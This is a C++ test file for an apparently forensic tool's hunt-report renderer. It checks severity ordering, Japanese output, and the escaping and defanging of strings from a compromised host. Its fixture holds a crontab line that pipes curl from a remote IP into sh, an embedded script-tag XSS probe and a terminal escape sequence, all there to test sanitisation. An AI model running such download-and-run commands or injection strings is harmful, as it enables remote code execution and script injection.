// The hunt report's HTML and text: verdict up top, findings by severity with evidence and
// location, timeline, actions; host-controlled strings escaped, neutralised and defanged.
#include "kensa/report/hunt_render.h"

#include <catch2/catch.hpp>

namespace {

using kensa::forensics::v1::HuntReport;

HuntReport CompromisedHost() {
  HuntReport report;
  report.set_generator("kensa 0.1.0");
  report.set_generated_at("2026-11-26T10:05:00Z");
  report.set_verdict(kensa::forensics::v1::HUNT_VERDICT_COMPROMISED);
  report.set_verdict_reason(
      "2 critical matches (top rule: Preloaded library in /etc/ld.so.preload)");
  auto* manifest = report.mutable_collection()->mutable_manifest();
  manifest->mutable_host()->set_hostname("victim01");
  manifest->mutable_host()->set_os("Debian GNU/Linux 12 (bookworm)");
  manifest->set_case_id("CASE-2026-0142");
  report.mutable_collection()->set_path("kensa-victim01-20261126T100000Z.tar.gz");
  report.mutable_collection()->add_hash_mismatches("files/etc/crontab");

  auto* preload = report.add_findings();
  preload->set_rule_id("linux_ld_so_preload");
  preload->set_title("Preloaded library in /etc/ld.so.preload");
  preload->set_title_ja("/etc/ld.so.preload による共有ライブラリの事前読み込み");
  preload->set_level("critical");
  preload->add_attack_techniques("T1574.006");
  preload->set_source("host_check");
  preload->set_evidence("/usr/lib/x86_64-linux-gnu/libsneaky.so");
  preload->set_location("files/etc/ld.so.preload:1");
  auto* cron = report.add_findings();
  cron->set_rule_id("linux_cron_download_and_run");
  cron->set_title("Cron job downloads and runs");
  cron->set_level("high");
  cron->set_source("host_check");
  cron->set_evidence(
      "*/5 * * * * root curl -s http://198.51.100.7/c.sh | sh <script>alert(1)</script>\x1b[2J");
  cron->set_location("files/etc/crontab:1");
  auto* login = report.add_findings();
  login->set_rule_id("linux_ssh_login_accepted");
  login->set_title("Accepted SSH login");
  login->set_level("informational");
  login->set_source("host_check");

  auto* event = report.add_timeline();
  event->set_time("2026-11-26T09:00:01Z");
  event->set_kind("auth_log");
  event->set_description("Accepted password for alice from 203.0.113.9");
  event->set_location("files/var/log/auth.log:26");
  report.add_recommended_actions("Isolate the host from the network.");
  report.add_recommended_actions_ja("ホストをネットワークから隔離する。");
  auto* hit = report.add_rule_hits();
  hit->set_rule_id("linux_ld_so_preload");
  hit->set_title("Preloaded library in /etc/ld.so.preload");
  hit->set_level("critical");
  hit->set_count(1);
  hit->set_title_ja("/etc/ld.so.preload による共有ライブラリの事前読み込み");
  return report;
}

}  // namespace

TEST_CASE(
    "the hunt HTML puts the verdict and its reason first, then actions and findings by severity") {
  const std::string html =
      kensa::report::RenderHuntHtml(CompromisedHost(), kensa::report::Language::kEnglish);
  const auto badge = html.find("<div class=\"badge\">COMPROMISED</div>");
  REQUIRE(badge != std::string::npos);
  CHECK(html.find("summary lvl-malicious") != std::string::npos);
  CHECK(html.find("2 critical matches (top rule: Preloaded library in /etc/ld.so.preload)") >
        badge);
  const auto actions = html.find("Isolate the host from the network.");
  const auto critical =
      html.find("<span class=\"pill sev-critical\">Critical</span> <span class=\"count\">1</span>");
  const auto high =
      html.find("<span class=\"pill sev-high\">High</span> <span class=\"count\">1</span>");
  const auto info = html.find("<span class=\"pill sev-info\">Informational</span>");
  REQUIRE(critical != std::string::npos);
  CHECK(badge < actions);
  CHECK(actions < critical);
  CHECK(critical < high);
  CHECK(high < info);
  CHECK(html.find("files/etc/ld.so.preload:1") != std::string::npos);
  CHECK(html.find("/usr/lib/x86_64-linux-gnu/libsneaky.so") != std::string::npos);
  CHECK(html.find("<span class=\"attack\">T1574.006</span>") != std::string::npos);
  CHECK(html.find("Accepted password for alice from 203.0.113.9") != std::string::npos);
  CHECK(html.find("victim01") != std::string::npos);
  CHECK(html.find("CASE-2026-0142") != std::string::npos);
  CHECK(html.find("files/etc/crontab</span> does not match its sha256") != std::string::npos);
}

TEST_CASE(
    "the hunt HTML escapes, neutralises and defangs what came from the host, and loads nothing") {
  const std::string html =
      kensa::report::RenderHuntHtml(CompromisedHost(), kensa::report::Language::kEnglish);
  CHECK(html.find("<script>") == std::string::npos);
  CHECK(html.find("&lt;script&gt;alert(1)&lt;/script&gt;") != std::string::npos);
  CHECK(html.find("\x1b") == std::string::npos);
  CHECK(html.find("http://198.51.100.7") == std::string::npos);
  CHECK(html.find("hxxp") != std::string::npos);
  CHECK(html.find("default-src 'none'") != std::string::npos);
  CHECK(html.find("src=") == std::string::npos);
  CHECK(html.find("href=") == std::string::npos);
}

TEST_CASE("the hunt HTML speaks Japanese, with the rules' Japanese titles") {
  const std::string html =
      kensa::report::RenderHuntHtml(CompromisedHost(), kensa::report::Language::kJapanese);
  CHECK(html.find("<html lang=\"ja\">") != std::string::npos);
  CHECK(html.find("<div class=\"badge\">侵害あり</div>") != std::string::npos);
  CHECK(html.find("侵害調査レポート") != std::string::npos);
  CHECK(html.find("/etc/ld.so.preload による共有ライブラリの事前読み込み") != std::string::npos);
  CHECK(html.find("ホストをネットワークから隔離する。") != std::string::npos);
  CHECK(html.find("<span class=\"pill sev-critical\">緊急</span>") != std::string::npos);
}

TEST_CASE("a clean host's HTML says no evidence and lists no findings") {
  HuntReport report;
  report.set_verdict(kensa::forensics::v1::HUNT_VERDICT_NO_EVIDENCE);
  report.set_verdict_reason("no match above low");
  const std::string html = kensa::report::RenderHuntHtml(report, kensa::report::Language::kEnglish);
  CHECK(html.find("<div class=\"badge\">NO EVIDENCE</div>") != std::string::npos);
  CHECK(html.find("summary lvl-clean") != std::string::npos);
  CHECK(html.find("No findings.") != std::string::npos);
  CHECK(html.find("sev-critical\">") == std::string::npos);
}

TEST_CASE(
    "the hunt text starts with the verdict and shows host evidence without terminal escapes") {
  const std::string text =
      kensa::report::RenderHuntText(CompromisedHost(), kensa::report::Language::kEnglish);
  CHECK(text.rfind("verdict: COMPROMISED (2 critical matches", 0) == 0);
  CHECK(text.find("    files/etc/ld.so.preload:1: /usr/lib/x86_64-linux-gnu/libsneaky.so\n") !=
        std::string::npos);
  CHECK(text.find("\x1b") == std::string::npos);
  CHECK(text.find("\\x1b[2J") != std::string::npos);
  const std::string ja =
      kensa::report::RenderHuntText(CompromisedHost(), kensa::report::Language::kJapanese);
  CHECK(ja.rfind("判定: 侵害あり", 0) == 0);
}

TEST_CASE("how many known-bad indicators the host was swept for is said, and nothing when none were") {
  HuntReport report = CompromisedHost();
  const auto english = kensa::report::Language::kEnglish;
  CHECK(kensa::report::RenderHuntHtml(report, english).find("known-bad") == std::string::npos);
  CHECK(kensa::report::RenderHuntText(report, english).find("swept:") == std::string::npos);
  report.mutable_stats()->set_indicators_swept(1234);
  CHECK(kensa::report::RenderHuntHtml(report, english).find(", swept for 1,234 known-bad indicators") !=
        std::string::npos);
  CHECK(kensa::report::RenderHuntHtml(report, kensa::report::Language::kJapanese)
            .find("、既知の不正な指標 1,234 件と照合") != std::string::npos);
  CHECK(kensa::report::RenderHuntText(report, english).find("\nswept:   1234 known-bad indicators\n") !=
        std::string::npos);
}

TEST_CASE("how an encrypted collection was opened is among the collection's facts") {
  HuntReport report = CompromisedHost();
  report.mutable_collection()->set_encryption("Velociraptor container, X509 scheme: password decrypted with the private key");
  CHECK(kensa::report::RenderHuntHtml(report, kensa::report::Language::kEnglish)
            .find("<dt>Encryption</dt><dd class=\"wrap\">Velociraptor container, X509 scheme: password decrypted with the private key</dd>") !=
        std::string::npos);
  CHECK(kensa::report::RenderHuntHtml(report, kensa::report::Language::kJapanese).find("<dt>暗号化</dt>") != std::string::npos);
  CHECK(kensa::report::RenderHuntText(report, kensa::report::Language::kEnglish)
            .find("\n  encryption: Velociraptor container, X509 scheme: password decrypted with the private key\n") !=
        std::string::npos);
}

TEST_CASE("the rules that fired are named in Japanese when they have a Japanese title") {
  const auto ja = kensa::report::Language::kJapanese;
  CHECK(kensa::report::RenderHuntHtml(CompromisedHost(), ja)
            .find("<td><div>/etc/ld.so.preload による共有ライブラリの事前読み込み</div><div class=\"kind mono\">linux_ld_so_preload") !=
        std::string::npos);
  CHECK(kensa::report::RenderHuntText(CompromisedHost(), ja)
            .find("  1  [critical] /etc/ld.so.preload による共有ライブラリの事前読み込み (linux_ld_so_preload)\n") !=
        std::string::npos);
  CHECK(kensa::report::RenderHuntText(CompromisedHost(), kensa::report::Language::kEnglish)
            .find("  1  [critical] Preloaded library in /etc/ld.so.preload (linux_ld_so_preload)\n") != std::string::npos);
}

TEST_CASE("the report's IOCs are listed defanged, with the rule that named each") {
  HuntReport report = CompromisedHost();
  auto* url = report.add_indicators();
  url->set_type(kensa::analysis::v1::INDICATOR_TYPE_URL);
  url->set_value("http://198.51.100.7/c.sh");
  url->set_source("linux_cron_download_and_run");
  const std::string html = kensa::report::RenderHuntHtml(report, kensa::report::Language::kEnglish);
  CHECK(html.find("<h2>Indicators of compromise<span class=\"count\">1</span></h2>") != std::string::npos);
  CHECK(html.find("<td class=\"mono wrap\">hxxp[://]198[.]51[.]100[.]7/c.sh</td><td class=\"kind mono\">linux_cron_download_and_run</td>") !=
        std::string::npos);
  CHECK(html.find("http://198.51.100.7") == std::string::npos);
  CHECK(kensa::report::RenderHuntHtml(report, kensa::report::Language::kJapanese).find("IOC（侵害の痕跡）") != std::string::npos);
  const std::string text = kensa::report::RenderHuntText(report, kensa::report::Language::kEnglish);
  CHECK(text.find("indicators of compromise (first 1 of 1):\n  [URL] hxxp[://]198[.]51[.]100[.]7/c.sh  (linux_cron_download_and_run)\n") !=
        std::string::npos);
  // None: no section.
  CHECK(kensa::report::RenderHuntHtml(CompromisedHost(), kensa::report::Language::kEnglish).find("Indicators of compromise") ==
        std::string::npos);
}
